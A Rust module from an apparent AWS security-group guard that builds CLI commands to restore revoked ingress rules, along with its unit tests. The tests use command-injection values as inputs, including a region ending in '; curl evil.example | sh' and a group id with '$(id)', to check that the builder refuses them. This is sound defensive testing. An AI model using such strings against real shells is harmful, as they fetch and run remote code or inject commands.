//! Restore: the command that puts a revoked rule back as the operator had
//! it, and the rules kept as seen so that a rule revoked after a later
//! modification can be offered back as it was.

use tracing::warn;

use super::recheck::now_of;
use super::IngressGuard;
use crate::model::event::Event;
use crate::model::net::Source;
use crate::model::sg::{Direction, SgChange, SgRule};
use crate::report::plan::Revocation;
use crate::report::{OutcomeKind, Report};

/// The AWS CLI command that authorizes `rule` on `group_id` again: the same
/// protocol (as EC2 wrote it), ports, source and description, so the same
/// traffic. The source is written as the guard reads it (host bits cleared,
/// a bare address as a /32); the rule's tags are not carried.
/// `None` for a source EC2 would not take (a CIDR that does not parse), and
/// for a region or group id that is not a plain word (never put in a shell
/// command as it came).
pub fn restore_command(region: &str, group_id: &str, rule: &SgRule) -> Option<String> {
    use crate::report::is_plain_word;
    if !is_plain_word(region) || !is_plain_word(group_id) {
        return None;
    }
    let mut permission = serde_json::Map::new();
    permission.insert("IpProtocol".into(), rule.ip_protocol.clone().into());
    if !rule.protocol.is_all_traffic() {
        if let Some(from) = rule.from_port {
            permission.insert("FromPort".into(), from.into());
        }
        if let Some(to) = rule.to_port {
            permission.insert("ToPort".into(), to.into());
        }
    }
    let mut entry = serde_json::Map::new();
    let key = match &rule.source {
        Source::Cidr(net) if net.addr().is_ipv4() => {
            entry.insert("CidrIp".into(), net.to_string().into());
            "IpRanges"
        }
        Source::Cidr(net) => {
            entry.insert("CidrIpv6".into(), net.to_string().into());
            "Ipv6Ranges"
        }
        Source::PrefixList(id) => {
            entry.insert("PrefixListId".into(), id.clone().into());
            "PrefixListIds"
        }
        Source::Group { group_id, user_id } => {
            entry.insert("GroupId".into(), group_id.clone()?.into());
            if let Some(user) = user_id {
                entry.insert("UserId".into(), user.clone().into());
            }
            "UserIdGroupPairs"
        }
        Source::Unparsed(_) => return None,
    };
    if let Some(description) = &rule.description {
        entry.insert("Description".into(), description.clone().into());
    }
    permission.insert(key.into(), serde_json::json!([entry]));
    let permissions = serde_json::Value::Array(vec![serde_json::Value::Object(permission)]);
    Some(format!(
        "aws ec2 authorize-security-group-ingress --region {region} --group-id {group_id} --ip-permissions '{}'",
        crate::report::shell_quoted_inner(&permissions.to_string())
    ))
}

impl IngressGuard<'_> {
    /// The command that puts a revoked rule back as the operator had it: the
    /// rule as read back for a rule the call created; for a rule the call
    /// modified, the rule as it was before the modification, which only the
    /// state table can tell (the record carries the new rule alone), and a
    /// note saying so when it cannot.
    pub(super) async fn restore_for(
        &self,
        event: &Event,
        group_id: &str,
        r: &Revocation,
        current: &[SgRule],
        report: &mut Report,
    ) -> Option<String> {
        let revoked = now_of(&r.rule, current).unwrap_or(&r.rule);
        if !(event.name == crate::model::sg::MODIFY_RULES && event.is_from("ec2")) {
            return restore_command(&event.region, group_id, revoked);
        }
        let before = match (self.revocations, &revoked.rule_id) {
            (Some(log), Some(id)) => log.rule_as_seen(&event.account, &event.region, id).await,
            _ => Ok(None),
        };
        let why = match before {
            Ok(Some(command)) => return Some(command),
            Ok(None) => "the record carries only the new rule and the state table holds no earlier sight of it".to_string(),
            Err(e) => {
                warn!(event_id = %event.id, rule_id = %r.label(), error = %e, "cannot read the rule as it was");
                format!(
                    "the record carries only the new rule and the state table could not be read ({})",
                    e.code_or_kind()
                )
            }
        };
        report.notes.push(format!(
            "{}: the rule as it was before ModifySecurityGroupRules is not known ({why}): no restore command; the rule revoked was {revoked}",
            r.label()
        ));
        None
    }

    /// Keeps every ingress rule of the event left in place as it is now (the
    /// command that authorizes it again), so that when a later
    /// ModifySecurityGroupRules changes it and it is revoked, the alert can
    /// offer it back as it was. Best effort: a failure is logged.
    pub(super) async fn remember_rules(&self, event: &Event, change: &SgChange, report: &Report) {
        let (Some(log), Some(group_id)) = (self.revocations, change.group_id.as_deref()) else {
            return;
        };
        for rule in &change.rules {
            let Some(id) = rule.rule_id.as_deref() else {
                continue;
            };
            let revoked = report
                .outcomes
                .iter()
                .any(|o| o.rule_id == id && o.result == OutcomeKind::Revoked);
            if rule.direction != Direction::Ingress || revoked {
                continue;
            }
            let Some(command) = restore_command(&event.region, group_id, rule) else {
                continue;
            };
            if let Err(e) = log
                .record_rule(&event.account, &event.region, group_id, id, &command)
                .await
            {
                warn!(event_id = %event.id, rule_id = %id, error = %e, "cannot record the rule as seen");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::sg::Direction;

    #[test]
    fn the_restore_command_authorizes_exactly_what_was_revoked() {
        let rule = |protocol: &str, from: Option<i64>, to: Option<i64>, source: Source| SgRule {
            rule_id: Some("sgr-1".into()),
            direction: Direction::Ingress,
            ip_protocol: protocol.into(),
            protocol: crate::model::net::Protocol::parse(protocol).unwrap(),
            from_port: from,
            to_port: to,
            source,
            description: None,
        };
        let cmd = |r: &SgRule| restore_command("eu-west-1", "sg-1", r).unwrap();
        assert_eq!(
            cmd(&rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"))),
            r#"aws ec2 authorize-security-group-ingress --region eu-west-1 --group-id sg-1 --ip-permissions '[{"FromPort":22,"IpProtocol":"tcp","IpRanges":[{"CidrIp":"0.0.0.0/0"}],"ToPort":22}]'"#
        );
        // The protocol as written, IPv6, every port of every protocol.
        assert!(
            cmd(&rule("6", Some(3389), Some(3389), Source::cidr("::/0")))
                .contains(r#""IpProtocol":"6","Ipv6Ranges":[{"CidrIpv6":"::/0"}]"#)
        );
        assert!(
            cmd(&rule("-1", Some(-1), Some(-1), Source::cidr("0.0.0.0/0")))
                .contains(r#"'[{"IpProtocol":"-1","IpRanges""#)
        );
        assert!(cmd(&rule(
            "tcp",
            Some(0),
            Some(65535),
            Source::PrefixList("pl-1".into())
        ))
        .contains(r#""PrefixListIds":[{"PrefixListId":"pl-1"}]"#));
        let pair = Source::Group {
            group_id: Some("sg-9".into()),
            user_id: Some("444455556666".into()),
        };
        assert!(cmd(&rule("udp", Some(53), Some(53), pair))
            .contains(r#""UserIdGroupPairs":[{"GroupId":"sg-9","UserId":"444455556666"}]"#));
        assert_eq!(
            restore_command(
                "eu-west-1",
                "sg-1",
                &rule("tcp", Some(22), Some(22), Source::Unparsed("x".into()))
            ),
            None,
            "EC2 would not take it back"
        );
        let ssh = rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"));
        for (region, group) in [
            ("eu-west-1; curl evil.example | sh", "sg-1"),
            ("eu-west-1", "sg-1 $(id)"),
            ("eu-west-1", ""),
        ] {
            assert_eq!(
                restore_command(region, group, &ssh),
                None,
                "{region:?} {group:?} is never put in a command"
            );
        }
        // The description goes back with the range.
        let described = SgRule {
            description: Some("office VPN".into()),
            ..rule("tcp", Some(22), Some(22), Source::cidr("0.0.0.0/0"))
        };
        assert!(cmd(&described)
            .contains(r#""IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"office VPN"}]"#));
        // A quote inside the JSON stays inside the single quotes.
        let quoted = Source::Group {
            group_id: Some("sg-'x".into()),
            user_id: None,
        };
        assert!(cmd(&rule("tcp", Some(22), Some(22), quoted)).contains(r#""GroupId":"sg-'\''x""#));
    }
}
